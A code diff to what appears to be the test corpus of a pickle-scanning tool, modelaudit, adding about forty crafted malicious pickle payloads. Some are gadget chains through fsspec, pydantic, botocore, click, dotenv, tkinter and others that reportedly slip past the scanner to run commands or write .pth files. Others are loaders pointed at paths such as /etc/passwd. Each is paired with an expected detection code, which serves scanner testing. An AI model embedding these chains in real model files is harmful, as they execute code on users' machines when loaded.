@@ -720,7 +720,8 @@ def programs() -> list[Attack]:
 
 def tensor(dtype: str, key: str, shape: tuple[int, ...]) -> Raw:
     """A dense tensor over the whole storage *key* of a checkpoint."""
-    numel, strides = 1, []
+    numel = 1
+    strides: list[int] = []
     for size in reversed(shape):
         strides.insert(0, numel)
         numel *= size
@@ -899,6 +900,134 @@ def elsewhere() -> list[Attack]:
     ]
 
 
+def put(target: Raw, **entries: object) -> Raw:
+    """SETITEMS behind *target*."""
+    return Raw(target.code + b"(" + b"".join(push(key) + push(value) for key, value in entries.items()) + b"u")
+
+
+def chains() -> list[Attack]:
+    """What an open search for ways past modelaudit found, as far as no case before is of its kind."""
+    touch = name("pathlib:Path.touch")
+    template = 'open("x","w")\ndef _parse_args(*args):\n    return (), 0, 1\n'
+    poisoned = {"class": "subprocess.Popen"}
+    late = call("collections:defaultdict", name("builtins:help"))
+    cases: dict[str, tuple[tuple[object, ...], str]] = {
+        "the state of scipy's distribution, the object of the module": (
+            (built(name("scipy.stats:norm"), {"_parse_arg_template": template}),),
+            "S110",
+        ),
+        "an entry in the registry of fsspec": (
+            (
+                put(name("fsspec.registry:known_implementations"), pwn=poisoned),
+                call("fsspec.implementations.cached:WholeFileCacheFileSystem", "pwn"),
+            ),
+            "S110",
+        ),
+        "an entry among the imports of pydantic": (
+            (
+                put(name("pydantic:_dynamic_imports"), Popen=("pydantic", "subprocess")),
+                call("pydantic:Popen", COMMAND),
+            ),
+            "S110",
+        ),
+        "a module of a package that imports late": ((call("pydantic:_os.system", COMMAND),), "S102"),
+        "the importers of a package": ((call("builtins:list", call("pkgutil:iter_importers", "x.y")),), "S102"),
+        "a function of six under botocore": ((call("botocore.vendored.six.moves:getoutput", COMMAND),), "S105"),
+        "a pickle by six": ((call("six.moves.cPickle:loads", list(EVIL)),), "S102"),
+        "a method by a wrapper of numpy": (
+            (
+                call(
+                    "numpy._core.fromnumeric:_wrapfunc",
+                    call("_pytest._py.path:LocalPath", "/bin/true"),
+                    "sysexec",
+                ),
+            ),
+            "S107",
+        ),
+        "a process for credentials": (
+            (
+                call(
+                    "botocore.credentials:ProcessProvider._retrieve_credentials_using",
+                    call("botocore.credentials:ProcessProvider", "default", name("builtins:dict")),
+                    COMMAND,
+                ),
+            ),
+            "S105",
+        ),
+        "a loop of anyio": ((call("anyio._backends._asyncio:AsyncIOBackend.run", HELD, (), {}, {}),), "S101"),
+        "an editor": ((call("click:edit", "x", COMMAND, None, False),), "S101"),
+        "a file that is opened late": ((call("click.utils:LazyFile", "x", "w"),), "S101"),
+        "a gateway of execnet": ((call("execnet:makegateway", "popen//python=true"),), "S101"),
+        "a program of dotenv": ((call("dotenv.cli:run_command", [COMMAND], {}),), "S101"),
+        "a line of dotenv": ((call("dotenv:set_key", "x.pth", "import x#", "x"),), "S101"),
+        "a frame by a method of a method": ((call("inspect:currentframe.__repr__.__self__"),), "S102"),
+        "an attribute by a function's own method": (
+            (call("statistics:mean.__getattribute__", "__builtins__"),),
+            "S102",
+        ),
+        "a function whose name is resolved for a mock": (
+            (call("unittest.mock:_get_target", "builtins:eval.x"),),
+            "S101",
+        ),
+        "a program of Tcl": (
+            (call("tkinter:Misc._unbind", call("tkinter:Tcl"), ("exec", "/bin/true")),),
+            "S101",
+        ),
+        "an interpreter within": ((call("_xxsubinterpreters:run_string", 1, "pass"),), "S101"),
+        "a file of argparse": ((call("logging:StreamHandler", call("argparse:FileType", "w")),), "S107"),
+        "a mailbox": ((call("mailbox:mbox.add", call("mailbox:mbox", "x.pth"), "x"),), "S104"),
+        "a line of CSV": (
+            (call("csv:DictWriter.writerow", call("csv:DictWriter", None, ()), {}),),
+            "S104",
+        ),
+        "a function as the order of keys": ((call("functools:cmp_to_key", touch),), "S102"),
+        "a function as a filter of a log": (
+            (call("logging:Filterer.addFilter", call("logging:Filterer"), touch),),
+            "S102",
+        ),
+        "a class whose name is set": (
+            (call("builtins:type", "D", (name("pathlib:PosixPath"),), {"__set_name__": touch}),),
+            "S102",
+        ),
+        "a path by text": (
+            (call("builtins:type", "D", (name("collections:UserString"),), {"__fspath__": touch}),),
+            "S102",
+        ),
+        "a default that is called when text is formatted": (
+            (call("builtins:str.format", "{0[x]}", late),),
+            "S102",
+        ),
+        "a default behind a chain of mappings": (
+            (call("builtins:dict", call("collections:ChainMap", late, {"x": 1})),),
+            "S101",
+        ),
+    }
+    return [
+        Attack(f"chained: {way}", stream(*parts), code, cites=("modelaudit#1061",))
+        for way, (parts, code) in cases.items()
+    ]
+
+
+def started() -> list[Attack]:
+    """Objects of known programs that open or load what they are made of."""
+    return [
+        Attack(f"made: {way}", stream(value), code)
+        for way, (value, code) in {
+            "a model of llama.cpp, restored": (
+                new("llama_cpp.llama:Llama", state={"model_path": "/etc/passwd"}),
+                "S103",
+            ),
+            "a cache on a disk, restored": (new("diskcache.core:Cache", state=("/tmp/x", 60, None)), "S104"),
+            "a graph that is a pickle": (call("igraph:Graph.Read_Pickle", "/tmp/x"), "S104"),
+            "an environment of a module": (call("gymnasium:make", "package:name"), "S101"),
+            "a model of sentences": (call("sentence_transformers:SentenceTransformer", "evil/model"), "S103"),
+            "an engine": (call("vllm:LLM", "evil/model"), "S103"),
+            "a booster": (call("lightgbm:Booster", None, None, "/tmp/x"), "S103"),
+            "a command line": (call("fire:Fire", None, COMMAND), "S101"),
+        }.items()
+    ]
+
+
 def third_search() -> list[Attack]:
     """All of them."""
     return [
@@ -909,4 +1038,6 @@ def third_search() -> list[Attack]:
         *programs(),
         *held(),
         *elsewhere(),
+        *chains(),
+        *started(),
     ]
